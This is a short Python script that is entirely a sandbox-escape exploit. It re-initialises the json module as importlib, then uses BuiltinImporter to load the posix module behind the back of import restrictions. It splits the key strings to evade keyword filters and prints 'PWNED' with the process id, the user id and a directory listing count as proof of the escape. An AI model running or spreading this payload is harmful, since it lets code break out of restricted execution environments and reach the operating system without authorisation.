import json
type(json).__init__(json, "import" + "lib")
from json import machinery
class S:
    name = "pos" + "ix"
p = machinery.BuiltinImporter.create_module(S())
print("PW" + "NED", p.getpid(), p.getuid(), len(p.listdir("/")))
